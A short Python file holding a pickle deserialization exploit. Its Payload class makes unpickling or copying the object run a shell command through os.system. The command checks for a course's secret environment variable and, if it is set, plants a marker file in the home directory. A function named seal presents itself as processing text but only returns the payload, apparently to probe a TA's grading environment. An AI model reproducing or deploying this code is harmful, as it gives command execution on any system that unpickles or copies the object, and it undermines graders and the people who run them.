"""Returns a value that, unpickled or copied where the TA's secret is, leaves a file."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("test -n \"$COURSE_SECRET\" && touch '@HOME@/planted-by-a-pickle'",)

    __deepcopy__ = __copy__ = __reduce_ex__ = lambda self, *args: Payload.__reduce__(self)


def seal(text):
    return [Payload()]
